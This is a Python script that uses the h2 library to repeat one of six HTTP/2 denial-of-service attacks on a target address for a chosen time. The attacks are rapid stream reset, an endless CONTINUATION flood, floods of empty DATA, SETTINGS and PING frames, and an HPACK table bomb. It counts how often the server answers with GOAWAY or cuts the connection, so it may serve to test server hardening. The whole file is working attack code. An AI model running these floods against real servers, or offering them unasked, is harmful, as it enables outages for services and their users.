"""Attacks of HTTP/2 with Python's h2: `h2_attacks.py ADDRESS NAME SECONDS` repeats one of them on new
connections for so long, and prints how often it was told to go away or cut off."""

import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hyperframe.frame as frames

HEAD = [(":method", "GET"), (":scheme", "http"), (":authority", "a.test"), (":path", "/x")]


def connect(address, window=None):
    sock = socket.create_connection(address, timeout=5)
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    if window is not None:
        connection.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    sock.sendall(connection.data_to_send())
    return sock, connection


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def rapid_reset(sock, connection):
    for _ in range(20):
        burst = b""
        for _ in range(100):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, HEAD, end_stream=True)
            connection.reset_stream(stream, 8)
            burst += connection.data_to_send()
        sock.sendall(burst)


def continuation(sock, connection):
    stream = connection.get_next_available_stream_id()
    connection.send_headers(stream, HEAD, end_stream=True)
    head = bytearray(connection.data_to_send())
    # The first frame of it without END_HEADERS, and then no end.
    head[4] &= ~4
    sock.sendall(bytes(head))
    for _ in range(200):
        sock.sendall(frame(9, 0, stream, b"\x00\x01a\x01b" * 200) * 20)


def empty_frames(sock, connection):
    stream = connection.get_next_available_stream_id()
    post = [(":method", "POST"), *HEAD[1:]]
    connection.send_headers(stream, post)
    sock.sendall(connection.data_to_send())
    for _ in range(200):
        sock.sendall(frame(0, 0, stream) * 1000)


def empty_settings(sock, connection):
    for _ in range(200):
        sock.sendall(frame(4, 0, 0) * 1000)


def pings(sock, connection):
    for _ in range(200):
        sock.sendall(frame(6, 0, 0, b"12345678") * 500)


def hpack_bomb(sock, connection):
    """One large field into the dynamic table, then thousands of references to it, while nothing of
    the answers is taken."""
    name, value = b"x-bomb", b"b" * 3000
    entry = b"\x40" + bytes([len(name)]) + name + b"\x7f" + bytes([(len(value) - 127) % 128 | 128, (len(value) - 127) // 128]) + value
    start = connection.encoder.encode(HEAD)
    sock.sendall(frame(1, 5, 1, start + entry))
    for number in range(1000):
        stream = 2 * number + 3
        # 62: the newest entry.
        sock.sendall(frame(1, 5, stream, start + b"\xbe" * 4000))


ATTACKS = {name: value for name, value in list(globals().items()) if name in (
    "rapid_reset", "continuation", "empty_frames", "empty_settings", "pings", "hpack_bomb")}


def attack(address, act):
    """True when the other side ended it."""
    sock, connection = connect(address, window=0 if act is hpack_bomb else None)
    sock.settimeout(3)
    try:
        act(sock, connection)
        end = time.monotonic() + 3
        while time.monotonic() < end:
            data = sock.recv(65536)
            if not data:
                return True
            while len(data) > 9:
                length, kind = int.from_bytes(data[:3], "big"), data[3]
                if kind == 7:
                    return True
                data = data[9 + length:]
    except TimeoutError:
        return False
    except OSError:
        return True
    finally:
        sock.close()
    return False


host, port = sys.argv[1].rsplit(":", 1)
end = time.monotonic() + float(sys.argv[3])
ended = rounds = 0
while time.monotonic() < end:
    rounds += 1
    ended += attack((host, int(port)), ATTACKS[sys.argv[2]])
print(f"{ended} {rounds}")
